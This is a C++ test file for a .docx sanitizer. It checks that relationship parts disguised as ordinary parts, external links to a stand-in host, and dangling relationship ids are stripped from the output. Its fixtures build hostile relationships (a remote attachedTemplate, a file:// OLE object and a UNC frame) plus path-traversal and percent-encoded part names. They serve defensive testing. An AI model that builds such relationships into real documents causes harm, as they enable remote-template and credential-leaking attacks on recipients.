// Relationship parts are the writer's alone: no input part under a relationship name (or the content
// types' name) is ever kept, whatever content type the package declares for it; every attribute that
// names a relationship is checked against what the writer keeps. Checked with Python's zipfile and
// xml.etree (tests/support/ooxml_check.py), not with our own reader.
#include "ooxml_support.hpp"

using namespace mugaika;
using namespace mugaika::test;
using namespace mugaika::test::ooxml;

namespace {

const std::string PKG = "http://schemas.openxmlformats.org/package/2006/relationships";

// The relationships an attacker wants shipped unfiltered.
std::string evil_rels() {
    return "<Relationships xmlns=\"" + PKG + "\">" +
           rel("rIdT", "attachedTemplate", "http://203.0.113.9/t.dotm", true) +
           rel("rIdO", "oleObject", "file://203.0.113.9/share/x.bin", true) +
           rel("rIdF", "frame", "\\\\203.0.113.9\\share\\f.htm", true) + "</Relationships>";
}

bool anywhere(const Unzipped& z, const std::string& needle) {
    for (const auto& n : z.names)
        if (z.part(n).find(needle) != std::string::npos) return true;
    return false;
}

}  // namespace

TEST_CASE("ooxml rels: a relationship part dressed as another part is never kept, whatever its name or type") {
    struct Variant {
        std::string target;      // relative to word/document.xml
        std::string zip_name;    // where the smuggled part lies
        std::string rel_type, content_type;
    };
    const std::vector<Variant> variants{
        {"_rels/settings.xml.rels", "word/_rels/settings.xml.rels", "styles", CT + "wordprocessingml.styles+xml"},
        {"%5Frels/settings.xml.rels", "word/_rels/settings.xml.rels", "numbering", CT + "wordprocessingml.numbering+xml"},
        {"_RELS/SETTINGS.XML.RELS", "word/_RELS/SETTINGS.XML.RELS", "header", CT + "wordprocessingml.header+xml"},
        {"../_rels/.rels", "_rels/.rels", "footer", CT + "wordprocessingml.footer+xml"},
        {"evil.rels", "word/evil.rels", "styles", CT + "wordprocessingml.styles+xml"},
        {"%65vil.r%65ls", "word/evil.rels", "fontTable", CT + "wordprocessingml.fontTable+xml"},
        {"x/_rels/a.xml", "word/x/_rels/a.xml", "styles", CT + "wordprocessingml.styles+xml"},
        {"../[Content_Types].xml", "[Content_Types].xml", "styles", CT + "wordprocessingml.styles+xml"},
    };
    for (const auto& v : variants) {
        CAPTURE(v.target);
        Docx d;
        d.body = "<w:p><w:r><w:t>本文</w:t></w:r></w:p>";
        d.settings = R"(<w:attachedTemplate r:id="rIdT"/><w:zoom w:percent="100"/>)";
        d.doc_rels = rel("rIdSmuggled", v.rel_type, v.target);
        d.types = {{"/" + v.zip_name, v.content_type}};
        if (v.zip_name != "_rels/.rels" && v.zip_name != "[Content_Types].xml") d.parts.push_back({v.zip_name, evil_rels()});
        std::string in = d.build();
        if (v.zip_name == "_rels/.rels") {
            // The package's own relationships carry the attack too (they must be read, never copied).
            Docx again = d;
            again.package_rels = rel("rIdT", "attachedTemplate", "http://203.0.113.9/t.dotm", true);
            in = again.build();
        }
        Outcome o = sanitize(in, "rels.docx");
        auto j = checked_package(o);
        CHECK(has_finding(o, "ooxml.part"));
        Unzipped z(o.outputs[0].bytes);
        CHECK_FALSE(anywhere(z, "203.0.113.9"));
        CHECK_FALSE(anywhere(z, "attachedTemplate"));
        CHECK_FALSE(anywhere(z, "oleObject"));
        CHECK_FALSE(z.has("word/evil.rels"));
        CHECK_FALSE(z.has("word/_RELS/SETTINGS.XML.RELS"));
        CHECK_FALSE(z.any_contains("x/_rels"));
        CHECK(z.part("word/document.xml").find("本文") != std::string::npos);
        // The writer's own relationship parts are there and say only what was kept.
        CHECK(z.has("_rels/.rels"));
        CHECK(z.part("word/_rels/document.xml.rels").find("rIdSmuggled") == std::string::npos);
    }
}

TEST_CASE("ooxml rels: internal targets are written as the absolute name of the entry kept") {
    Docx d;
    d.body = R"(<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed="rIdImg"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>)";
    d.doc_rels = rel("rIdImg", "image", "./media/../media/%69mage1.png");
    d.parts.push_back({"word/media/image1.png", make_png(2, 2)});
    Outcome o = sanitize(d.build(), "t.docx");
    checked_package(o);
    Unzipped z(o.outputs[0].bytes);
    std::string rels = z.part("word/_rels/document.xml.rels");
    CHECK(rels.find("Target=\"/word/media/image1.png\"") != std::string::npos);
    CHECK(rels.find("..") == std::string::npos);
}

TEST_CASE("ooxml rels: every attribute that names a relationship is checked against what is kept") {
    Docx d;
    d.body = "<w:p><w:r><w:t>本文</w:t></w:r></w:p>"
             // VML picture naming an OLE relationship (dropped) through o:relid, and one through r:id
             R"(<w:p><w:r><w:pict><v:shape id="a"><v:imagedata o:relid="rIdOle" o:title=""/></v:shape></w:pict></w:r></w:p>)"
             R"(<w:p><w:r><w:pict><v:shape id="b"><v:imagedata r:id="rIdMissing"/></v:shape></w:pict></w:r></w:p>)"
             // a picture pointing at a kept external hyperlink: the reader would fetch it
             R"(<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed="rIdLink"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>)"
             // the same hyperlink from a hyperlink: stays
             R"(<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>)"
             // an attribute of a namespace nobody knows naming the dropped OLE relationship
             R"(<w:p xmlns:z="urn:example:evil" z:embedId="rIdOle"><w:r><w:t>後</w:t></w:r></w:p>)"
             // a relationship id that is no XML ID
             R"(<w:p><w:r><w:object><v:shape id="c"><v:imagedata r:id="1"/></v:shape></w:object></w:r></w:p>)";
    d.doc_rels = rel("rIdOle", "oleObject", "embeddings/oleObject1.bin") +
                 rel("rIdLink", "hyperlink", "https://www.city.example.lg.jp/", true) + rel("1", "image", "media/i.png");
    d.parts = {{"word/embeddings/oleObject1.bin", make_cfb({{"\x01Ole10Native", "MZ"}})}, {"word/media/i.png", make_png(2, 2)}};
    Outcome o = sanitize(d.build(), "refs.docx");
    auto j = checked_package(o);
    CHECK(has_finding(o, "ooxml.dangling"));
    Unzipped z(o.outputs[0].bytes);
    std::string doc = z.part("word/document.xml");
    CHECK(doc.find("rIdOle") == std::string::npos);
    CHECK(doc.find("rIdMissing") == std::string::npos);
    CHECK(doc.find("r:embed=\"rIdLink\"") == std::string::npos);
    CHECK(doc.find("r:id=\"rIdLink\"") != std::string::npos);
    CHECK(doc.find("リンク") != std::string::npos);
    CHECK(doc.find("後") != std::string::npos);
    CHECK_FALSE(z.any_contains("media/i.png"));   // the relationship with id "1" was refused
}
